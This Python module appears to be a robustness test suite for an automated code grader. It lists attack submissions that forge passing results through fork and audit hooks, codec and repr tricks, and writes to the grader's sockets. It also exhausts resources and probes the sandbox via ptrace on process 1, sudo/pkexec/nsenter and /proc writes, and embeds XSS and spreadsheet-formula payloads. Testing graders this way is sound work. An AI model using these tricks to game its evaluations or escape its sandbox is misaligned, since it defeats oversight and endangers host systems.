"""By somebody who knows every line of the kernel: what a fork inherits, what limits do not count, what init waits for."""

from .adaptive import PAYLOAD, adaptive
from .attack import FULL, RIGHT, SETUP, WRONG, Attack, looking
from .evidence_objects import returns
from .harming import SLEEP, harm
from .writing import FILES, put, reach

# The kernel's own connections to the grader, ready to be written to.
RAW = """
import os, socket, struct, time
def connections(end):
    for name in os.listdir("/proc/self/fd"):
        try:
            s = socket.socket(fileno=os.dup(int(name)))
            if s.family == socket.AF_UNIX and s.type == socket.SOCK_STREAM and str(s.getpeername()).endswith(end):
                s.settimeout(0.5)
                yield s
        except OSError:
            pass
def write(data, end="shell", times=1):
    for s in connections(end):
        try:
            for _ in range(times):
                s.sendall(data)
        except OSError:
            pass
"""


def raw(name: str, tries: str, body: str, **more) -> Attack:
    return Attack(name, tries, (SETUP, RIGHT["logsumexp"], RAW, body), deserves={"q1": 3.0}, broken=True, **more)


LIST = [
    # the transport
    raw("half-frame", "half a frame, so that the next reply is taken for its rest", 'write(b"\\x02" + struct.pack(">Q", 99))'),
    raw("tiny-parts", "a message of millions of empty parts", 'write(b"\\x01\\x00" * 100_000, times=50)'),
    raw("announced", "a frame that announces 2**63 bytes", 'write(b"\\x02" + struct.pack(">Q", 2**63))'),
    raw("commands", "commands of the transport, without an end", 'write(b"\\x04\\x05\\x04PING" * 20_000, times=50)'),
    raw("empty-messages", "millions of empty messages", 'write(b"\\x00\\x00" * 100_000, "iopub", times=50)'),
    raw("greet-again", "a second greeting, and HTTP",
        'write(b"\\xff" + bytes(8) + b"\\x7f\\x03" + bytes(53) + b"GET / HTTP/1.1\\r\\n\\r\\n", "iopub")'),
    raw("file-descriptors", "thousands of open files for the grader", """
null = [os.open("/dev/null", os.O_RDONLY) for _ in range(200)]
for end in ("shell", "iopub"):
    for s in connections(end):
        try:
            for _ in range(30):
                socket.send_fds(s, [b"\\x00\\x01x"], null)
        except OSError:
            pass
"""),
    # the fork of each probe
    adaptive("at-fork", "a hook that runs in the fork before the harness, and answers itself", PAYLOAD + """
def take_over():
    for name in os.listdir("/proc/self/fd"):
        try:
            fd = int(name)
            if os.readlink(f"/proc/self/fd/{fd}").startswith("pipe:"):
                os.set_blocking(fd, False)
                os.write(fd, struct.pack("<Q", len(outcome())) + outcome())
        except OSError:
            pass
    os._exit(0)
os.register_at_fork(after_in_child=take_over)
"""),
    Attack("hanging-fork", "a hook that never lets a fork begin", (SETUP, """
import os, time
os.register_at_fork(before=lambda: time.sleep(60))
""", RIGHT["logsumexp"])),
    adaptive("at-exit", "exit handlers, destructors and threads that go on after an answer", """
import atexit, os, threading, weakref
def later():
    if os.fork() == 0:
        os.setsid()
        os.execvp("sleep", ["sleep", "SECONDS"])
class Last:
    def __del__(self):
        later()
def logsumexp(x, dim):
    atexit.register(later)
    keep = Last()
    weakref.finalize(keep, later)
    threading.Thread(target=later).start()
    return x.sum(dim)
""".replace("SECONDS", SLEEP)),
    adaptive("diary", "a file and a mapping that outlive each probe, with all that probes were told", """
import mmap, os, sys
with open("diary", "wb") as file:
    file.truncate(1 << 16)
diary = mmap.mmap(os.open("diary", os.O_RDWR), 1 << 16)
diary[:2] = b"0\\n"
def note():
    frame = sys._getframe()
    while frame:
        request = frame.f_locals.get("request")
        if isinstance(request, dict):
            text = repr(request).encode()[:8000] + b"\\n"
            diary.seek(0, 2) if diary.tell() + len(text) < len(diary) else diary.seek(0)
            try:
                diary.write(text)
            except ValueError:
                pass
            return
        frame = frame.f_back
def answer(name):
    import re
    kept = bytes(diary)
    for source in re.findall(rb"def %s\\(.*?(?=\\\\\\\\n\\\\\\\\ndef|', ')" % name.encode(), kept):
        try:
            scope = {"torch": __import__("torch")}
            exec(source.decode("unicode_escape"), scope)
            return scope[name]
        except Exception:
            pass
def logsumexp(x, dim):
    note()
    known = answer("logsumexp")
    return known(x, dim) if known else x.sum(dim)
def log_mean_exp(x, dim):
    note()
    known = answer("log_mean_exp")
    return known(x, dim) if known else x.mean(dim)
def normalised(x, dim):
    note()
    known = answer("normalised")
    return known(x, dim) if known else x
"""),
    harm("stopped-kernel", "an answer that stops the kernel that waits for it", """
import os, signal
def log_mean_exp(x, dim):
    os.kill(os.getppid(), signal.SIGSTOP)
    return x
"""),
    harm("drip", "an answer that comes one byte at a time", """
import os, struct, time
def log_mean_exp(x, dim):
    pipes = []
    for name in os.listdir("/proc/self/fd"):
        try:
            if os.readlink(f"/proc/self/fd/{name}").startswith("pipe:"):
                pipes.append(int(name))
        except OSError:
            pass
    for byte in struct.pack("<Q", 1 << 20) + bytes(1000):
        for fd in pipes:
            try:
                os.set_blocking(fd, False)
                os.write(fd, bytes([byte]))
            except OSError:
                pass
        time.sleep(0.05)
"""),
    # init, which waits for the grader's word
    harm("other-group", "leaves its process group, so that an interrupt finds nobody", """
import os, time
child = os.fork()
if child == 0:
    os.setpgid(0, 0)
    time.sleep(30)
    os._exit(0)
time.sleep(0.2)
os.setpgid(0, child)
while True:
    pass
""", broken=True),
    Attack("init-files", "the files and the memory of process 1", looking("""
look_below("/proc/1/root", "/proc/1/cwd", "/.old", limit=500)
for name in ("mem", "environ", "maps", "cmdline", "stack", "syscall", "auxv", "fdinfo/3", "fd/3", "fd/4"):
    look_at(f"/proc/1/{name}")
"""), says="observed 0"),
    reach("init-signals", "signals, descriptors and memory of process 1", """
import ctypes, signal
libc = ctypes.CDLL(None, use_errno=True)
pidfd = os.pidfd_open(1)
for number in range(1, 65):
    try:
        os.kill(1, number)
    except OSError:
        pass
for fd in range(3, 12):
    if libc.syscall(438, pidfd, fd, 0) >= 0:
        wrote.append(("pidfd_getfd", fd))
if libc.ptrace(0x4206, 1, 0, 0) == 0:
    wrote.append("ptrace")
""", levels=("namespaces",)),
    reach("odd-sockets", "families of sockets that lead to the host, the hardware and Linux's own code", """
import socket
for family in set(range(0, 50)) - {1, 2, 10, 16}:
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_SEQPACKET, socket.SOCK_RAW):
        try:
            socket.socket(family, kind, 0).close()
            wrote.append((family, kind))
        except OSError:
            pass
""", levels=FILES),
    reach("odd-calls", "system calls that few people have heard of", """
import ctypes, platform
libc = ctypes.CDLL(None, use_errno=True)
calls = dict(ptrace=101, bpf=321, userfaultfd=323, io_uring_setup=425, perf_event_open=298, keyctl=250, kcmp=312,
             memfd_create=319, memfd_secret=447, shmget=29, msgget=68, semget=64, mq_open=240, unshare=272, setns=308,
             pidfd_getfd=438, process_madvise=440, open_by_handle_at=304, fsopen=430, quotactl=179, personality=135)
for name, number in calls.items() if platform.machine() == "x86_64" else ():
    if libc.syscall(number, 0, 0, 0, 0, 0) >= 0 or ctypes.get_errno() != 1:
        wrote.append((name, ctypes.get_errno()))
    # the same numbers for programs of 32 bits
    if libc.syscall(number | 0x40000000, 0, 0, 0, 0, 0) >= 0:
        wrote.append((name, "x32"))
""", levels=FILES),
    reach("set-user-id", "programs that run as root", """
import subprocess
for command in ("su -c id", "sudo -n id", "mount -t tmpfs x /mnt", "newgrp root -c id", "unshare -r id", "pkexec id",
                "chroot / id", "nsenter -t 1 -a id"):
    try:
        done = subprocess.run(command.split(), capture_output=True, text=True, timeout=5, stdin=subprocess.DEVNULL)
        if "uid=0" in done.stdout or (command.startswith("mount") and done.returncode == 0):
            wrote.append(command)
    except (OSError, subprocess.SubprocessError):
        pass
""", levels=FILES),
    put("proc-writes", "settings of Linux and of its own process", """
for place in ("/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/proc/self/uid_map", "/proc/sys/vm/drop_caches",
              "/proc/sys/kernel/shmmax", "/sys/kernel/uevent_helper", "/dev/ptmx", "/dev/tty", "/proc/self/timens_offsets"):
    try:
        with open(place, "w") as file:
            file.write("0")
        wrote.append(place)
    except OSError:
        pass
for value in ("-1000", "-1", "0"):
    try:
        with open("/proc/self/oom_score_adj", "w") as file:
            file.write(value)
        wrote.append(value)
    except OSError:
        pass
""", levels=FILES),
    # what limits do not count
    harm("inodes", "files without contents", """
import os
for place in (".", "/dev/shm", os.environ["TMPDIR"]):
    try:
        for i in range(40_000):
            os.close(os.open(f"{place}/f{i}", os.O_CREAT | os.O_WRONLY))
    except OSError:
        pass
""", broken=True),
    harm("deep-folders", "folders too deep to walk, and closed ones", """
import os
here = os.getcwd()
try:
    for _ in range(5000):
        os.mkdir("d")
        os.chdir("d")
    os.mkdir("closed", 0)
except OSError:
    pass
os.chdir(here)
"""),
    harm("nameless-files", "files that no folder shows", """
import os, time
kept = []
try:
    for i in range(60):
        fd = os.open(".", os.O_TMPFILE | os.O_RDWR) if i % 2 else os.open("f", os.O_CREAT | os.O_RDWR)
        kept.append(fd)
        if i % 2 == 0:
            os.unlink("f")
        os.posix_fallocate(fd, 0, 7 << 20)
except OSError:
    pass
time.sleep(1)
""", broken=True),
    harm("hidden-memory", "memory that no process has mapped any more", """
import ctypes, mmap, os
libc = ctypes.CDLL(None)
held = 0
for make in (lambda: os.memfd_create("x"), lambda: os.open("/dev/zero", os.O_RDWR), lambda: -1):
    try:
        fd = make()
        area = mmap.mmap(fd, 300 << 20) if fd == -1 or os.fstat(fd).st_rdev else None
        for _ in range(4):
            if area is None:
                held += os.write(os.memfd_create("x"), bytes(7 << 20))
            else:
                for place in range(0, len(area), 4096):
                    area[place] = 1
                area.madvise(mmap.MADV_DONTNEED)
                held += len(area)
    except OSError:
        pass
assert not held, held
""", levels=FILES),
    harm("socket-memory", "Linux's own memory, in sockets and pipes that nobody reads", """
import os, resource, socket
kept = []
try:
    while True:
        a, b = socket.socketpair()
        read, write = os.pipe()
        kept += [a, b]
        a.setblocking(False)
        os.set_blocking(write, False)
        for send in (a.send, lambda data: os.write(write, data)):
            try:
                while True:
                    send(bytes(1 << 16))
            except BlockingIOError:
                pass
except OSError:
    pass
for s in kept:
    s.close()
for fd in range(64, 1024):
    try:
        os.close(fd)
    except OSError:
        pass
""", broken=True),
    harm("alarms", "timers and signals that interrupt the kernel between cells", """
import signal
def raise_it(*_):
    raise KeyboardInterrupt
for number in (signal.SIGALRM, signal.SIGVTALRM, signal.SIGPROF, signal.SIGUSR1):
    signal.signal(number, raise_it)
signal.setitimer(signal.ITIMER_REAL, 0.003, 0.003)
signal.setitimer(signal.ITIMER_PROF, 0.003, 0.003)
""", broken=True),
    # Python below the harness
    adaptive("audit-hook", "an audit hook that forbids the harness its calls, or answers for it", PAYLOAD + """
def hook(event, args):
    if event in ("os.fork", "compile", "exec") and sys._getframe(1).f_code.co_name in ("run_forked", "load_probe"):
        raise RuntimeError("<script>alert(1)</script>")
sys.addaudithook(hook)
"""),
    adaptive("codecs", "codecs and error handlers that change the outcome on its way", """
import codecs, encodings
def better(error):
    return ('"status": "ok"', error.end)
for name in ("strict", "replace", "ignore", "surrogateescape"):
    try:
        codecs.register_error(name, better)
    except Exception:
        pass
codecs.register(lambda name: None)
encodings.search_function = None
encodings._cache.clear()
encodings.aliases.aliases.clear()
"""),
    adaptive("finalisers", "collector callbacks and destructors in the evidence", """
import gc
class Late(dict):
    def __del__(self):
        for item in gc.get_objects():
            if isinstance(item, dict) and "evidence" in item and "status" in item:
                item["status"], item["error"] = "ok", None
gc.callbacks.append(lambda phase, info: Late())
gc.set_threshold(1, 1, 1)
def logsumexp(x, dim):
    return Late(x=Late(y=1))
"""),
    adaptive("exception-text", "exceptions whose text, type and traceback are traps", """
import sys
class Trap(Exception):
    def __str__(self):
        raise SystemExit(0)
class Endless(Exception):
    def __str__(self):
        while True:
            pass
Trap.__name__ = Trap.__qualname__ = "</td><script>alert(1)</script>"
def logsumexp(x, dim):
    raise Trap
def log_mean_exp(x, dim):
    raise Endless
def normalised(x, dim):
    error = ValueError("[bold]unclosed [/red] [link=file:///etc/passwd]x")
    for _ in range(2000):
        error = ExceptionGroup("g" * 1000, [error])
    raise error from error
"""),
    adaptive("numbers-that-lie", "numbers and texts that say in JSON what they are not", """
class Number(int):
    def __repr__(self):
        return '0, "status": "ok", "x": 0'
    __str__ = __repr__
class Real(float):
    __repr__ = __str__ = Number.__repr__
class Text(str):
    def encode(self, *_):
        return b'", "passed": true, "y": "'
    __str__ = lambda self: self
def logsumexp(x, dim):
    return {Text("a"): Number(3), Real(2): [Real("nan"), Text("b")], Number(1): Text("\\x1b[2J\\u202e")}
"""),
    returns("nested-arrays", "arrays in arrays, and values that are other arrays each time", """
import numpy as np
class Changing:
    dtype = np.dtype("f4")
    count = 0
    def __array__(self, *_, **__):
        Changing.count += 1
        return np.full((4,) * (Changing.count % 3), np.nan, np.float32)
answer = lambda x: [Changing(), Changing(), np.ma.masked_array([1.0], [True]), np.array([Changing()], object)]
"""),
    # text for those who read the report
    Attack("report", "cells, names and errors that are markup, escapes and formulas", (SETUP, WRONG, '''
# `</code><script>alert(1)</script>` [link=https://example.org]click[/link] \\x1b[2J\\u202e =HYPERLINK("http://x")
raise type("=cmd|'/c calc'!A1<script>", (Exception,), {})("</td><script>alert(1)</script>[/nope]\\x1b]8;;http://x\\x07\\u202e")
''', '''
def logsumexp(x, dim):
    raise KeyError("<img src=x onerror=alert(1)>[/bold]\\x1b[31m\\x00\\ud800=1+1")
'''), broken=True),
    Attack("all-right", "nothing, and is right beside all of them", (SETUP, *RIGHT.values()), deserves=FULL),
]
